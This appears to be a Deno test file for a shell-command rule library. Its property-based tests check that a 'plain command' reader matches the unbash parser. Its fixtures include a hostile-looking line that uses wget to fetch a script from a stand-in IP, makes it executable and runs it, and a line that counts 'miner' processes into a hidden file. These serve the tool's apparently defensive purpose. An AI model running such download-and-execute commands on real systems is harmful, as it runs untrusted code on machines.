import assert from "assert";
import fc from "fast-check";
import { parse, type Redirection, type Statement } from "unbash";
import { type PlainCommand, plainCommands } from "../../../lib/rules/command/plain.ts";

/** What the parser reads: its simple commands in order; nothing when it finds anything wrong. */
function parsed(text: string): readonly PlainCommand[] | undefined {
  const { commands: statements, errors } = parse(text);
  if (errors !== undefined && errors.length > 0) return undefined;
  const commands: PlainCommand[] = [];
  const read = (node: Statement["command"], piped: boolean): void => {
    if (node.type === "AndOr") { for (const one of node.commands) read(one, false); }
    else if (node.type === "Pipeline") {
      for (const [index, one] of node.commands.entries()) read(one, index > 0);
    } else {
      assert.equal(node.type, "Command", text);
      if (node.type !== "Command") return;
      assert.ok(node.prefix.every(({ type }) => type === "Redirect"), text);
      const words = node.suffix.filter(({ type }) => type !== "Redirect").map((part) =>
        part.type === "Word" ? part.value : text.slice(part.pos, part.end)
      );
      if (node.name !== undefined) words.unshift(node.name.value);
      const writes = node.redirects.flatMap(target);
      commands.push({ words, writes, piped, start: node.pos, end: node.end });
    }
  };
  for (const { command } of statements) read(command, false);
  return commands;
}

function target(redirection: Redirection): readonly string[] {
  assert.ok("target" in redirection && redirection.target !== undefined);
  if (redirection.operator === ">&") {
    assert.match(redirection.target.value, /^(?:\d+|-)$/);
    return [];
  }
  assert.match(redirection.operator, /^>>?$/);
  return [redirection.target.value];
}

const pieces = fc.array(
  fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(" ", " ", "\t", "; ", " && ", " || ", " | ", " & ") },
    {
      weight: 8,
      arbitrary: fc.constantFrom("cd", "/tmp", "-rf", "a=b", "--x=y", "2", "1", "*.sh", "~"),
    },
    {
      weight: 3,
      arbitrary: fc.constantFrom(">", ">>", "2>", "2>&1", ">&2", ">&-", "&>", ">|", ">&x"),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom("if", "time", "in", "export", "!", "[", "#", "\n", "$x", "'", "{"),
    },
    {
      weight: 2,
      arbitrary: fc.constantFrom(";", "|", "&", "&&", "||", "=", "%", "^", "+", "@", "?"),
    },
  ),
  { maxLength: 14 },
).map((parts) => parts.join(""));

Deno.test("what is read as plain is what the parser reads", () => {
  let plain = 0;
  fc.assert(
    fc.property(pieces, (text) => {
      const commands = plainCommands(text);
      if (commands === undefined) return;
      plain += 1;
      assert.deepEqual(commands, parsed(text), JSON.stringify(text));
    }),
    { numRuns: 20_000 },
  );
  assert.ok(plain > 2_000, `${plain} of 20,000 texts were plain`);
});

Deno.test("any text of plain characters is read or left to the parser", () => {
  const characters = fc.string({
    unit: fc.constantFrom(..." \t;|&>aZ09_./:@,+~*?%^=-!#\n'\"$"),
    maxLength: 20,
  });
  fc.assert(
    fc.property(characters, (text) => {
      const commands = plainCommands(text);
      if (commands !== undefined) assert.deepEqual(commands, parsed(text), JSON.stringify(text));
    }),
    { numRuns: 20_000 },
  );
});

for (
  const text of [
    "uname -a",
    "cd /tmp; wget http://192.0.2.1/x.sh; chmod 777 x.sh; ./x.sh &",
    "ps aux | grep miner | wc -l >> /tmp/.n 2>/dev/null",
    "> /tmp/x 2>&1",
    "which wget && echo yes || echo no",
    "free -m | awk '{print $2 ,$3}' && echo \"it's\" ''",
    "",
  ]
) {
  Deno.test(`it is plain: ${text}`, () => {
    assert.notEqual(plainCommands(text), undefined);
  });
}

for (
  const [why, text] of [
    ["a quote inside a word", "w'g'et x"],
    ["a program in quotes", "'wget' x"],
    ["a variable in quotes", 'echo "$PATH"'],
    ["a carriage return in quotes", "echo 'a\rb'"],
    ["a quote that is open", "echo 'a"],
    ["a variable", "echo $PATH"],
    ["an input", "sh < x"],
    ["a word that is no name", "if true; then id; fi"],
    ["an assignment", "A=1 sh"],
    ["an operator without a command", "id &&"],
    ["two operators", "id ;; id"],
    ["a target that is missing", "id >"],
    ["more than ASCII", "cd /tmp/é"],
  ] as const
) {
  Deno.test(`it is left to the parser for ${why}: ${text}`, () => {
    assert.equal(plainCommands(text), undefined);
  });
}
